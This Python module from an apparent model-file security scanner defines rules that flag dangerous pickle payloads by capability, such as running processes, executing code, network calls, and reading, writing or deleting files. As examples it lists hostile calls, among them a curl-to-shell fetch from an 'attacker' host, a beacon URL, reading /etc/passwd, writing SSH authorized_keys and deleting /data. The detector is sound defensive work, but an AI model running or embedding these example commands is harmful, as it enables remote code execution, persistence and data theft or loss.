"""Pickles that do something: one rule for each capability of the callables that are known to be dangerous.

A pickle is a program. Loading it imports the names that it lists and calls them with arguments that it brings along,
so whoever wrote the file decides what happens on the machine that loads it. These rules look at each import, call,
change of state and extension that the stream would make, resolve the name as Python would, and report those whose
capability is known. Nothing of the file is executed for that. An import alone is reported too: the name is then in
the stream's hands.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Final

from hauberk.callables.judgement import Capability
from hauberk.checks.model.by_capability import Family, Row
from hauberk.checks.model.judged import sightings, unsafe
from hauberk.finding import Severity
from hauberk.formats.model.pickle.description import PickleDescription

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from hauberk.rule import Sighting

_ALWAYS: Final = ("CWE-502", "MITRE ATLAS AML.T0011.000", "OWASP ML06:2023")


ROWS: Final = (
    Row(
        "pickle-runs-process",
        Capability.PROCESS,
        Severity.CRITICAL,
        "the pickle starts a program when it is loaded",
        "A program that the file chooses runs with the rights of whoever loads the model: the plainest of all attacks.",
        "os.system('curl attacker | sh')",
        ("CWE-78", "CVE-2025-1716"),
    ),
    Row(
        "pickle-runs-code",
        Capability.CODE,
        Severity.CRITICAL,
        "the pickle runs code when it is loaded",
        "Source text, byte code or any function that can be reached runs inside of the process that loads the model.",
        "builtins.exec('import socket; …')",
        ("CWE-94", "CWE-95"),
    ),
    Row(
        "pickle-imports-module",
        Capability.IMPORT,
        Severity.HIGH,
        "the pickle imports by name, or reaches a name through another",
        "An import runs the module; a name that is reached through other names hides what it is from lists of names.",
        "importlib.import_module('os')",
        ("CWE-829", "GHSA-vvpj-8cmc-gx39", "GHSA-5j3x-jp52-966f"),
    ),
    Row(
        "pickle-opens-network",
        Capability.NETWORK,
        Severity.HIGH,
        "the pickle uses the network when it is loaded",
        "The file tells somebody where it was loaded, sends data away, or fetches what it will run next.",
        "urllib.request.urlopen('http://attacker/?host')",
        ("CWE-918",),
    ),
    Row(
        "pickle-reads-file",
        Capability.FILE_READ,
        Severity.HIGH,
        "the pickle reads files or settings of the machine",
        "What is read becomes part of the model, and leaves with its answers or with the next copy of it.",
        "linecache.getlines('/etc/passwd')",
        ("CWE-73",),
    ),
    Row(
        "pickle-writes-file",
        Capability.FILE_WRITE,
        Severity.HIGH,
        "the pickle writes files when it is loaded",
        "A file in the right place, such as a start-up script or an authorised key, is code that runs later.",
        "builtins.open('/home/ada/.ssh/authorized_keys', 'w')",
        ("CWE-73",),
    ),
    Row(
        "pickle-deletes-file",
        Capability.FILE_DELETE,
        Severity.HIGH,
        "the pickle removes files when it is loaded",
        "Data and other models are gone, or a lock or log that protects them is.",
        "shutil.rmtree('/data')",
        ("CWE-73",),
    ),
    Row(
        "pickle-deserialises",
        Capability.DESERIALISE,
        Severity.HIGH,
        "the pickle loads another serialised object",
        "What is loaded inside is a program of its own, and lies where a scan of this file does not look.",
        "marshal.loads(<120 bytes>)",
        ("CWE-502",),
    ),
    Row(
        "pickle-tampers-registry",
        Capability.REGISTRY_TAMPERING,
        Severity.HIGH,
        "the pickle changes tables of the interpreter",
        "What every later import, call or load in the process means is changed, long after this file was loaded.",
        "copyreg.add_extension('os', 'system', 7)",
        ("CWE-915",),
    ),
)


def _looking_for(capability: Capability) -> Callable[[PickleDescription], Iterator[Sighting]]:
    def look(description: PickleDescription) -> Iterator[Sighting]:
        return sightings(pair for pair in unsafe(description) if pair[1].capability is capability)

    return look


_FAMILY: Final = Family(
    reads=PickleDescription,
    looking_for=_looking_for,
    remedy="Do not load it. Ask its producer for a file that holds only the model, and find out how this came in.",
    about=__doc__ or "",
)
CAPABILITY_RULES: Final = tuple(_FAMILY.rule(row, (*_ALWAYS, *row.references)) for row in ROWS)
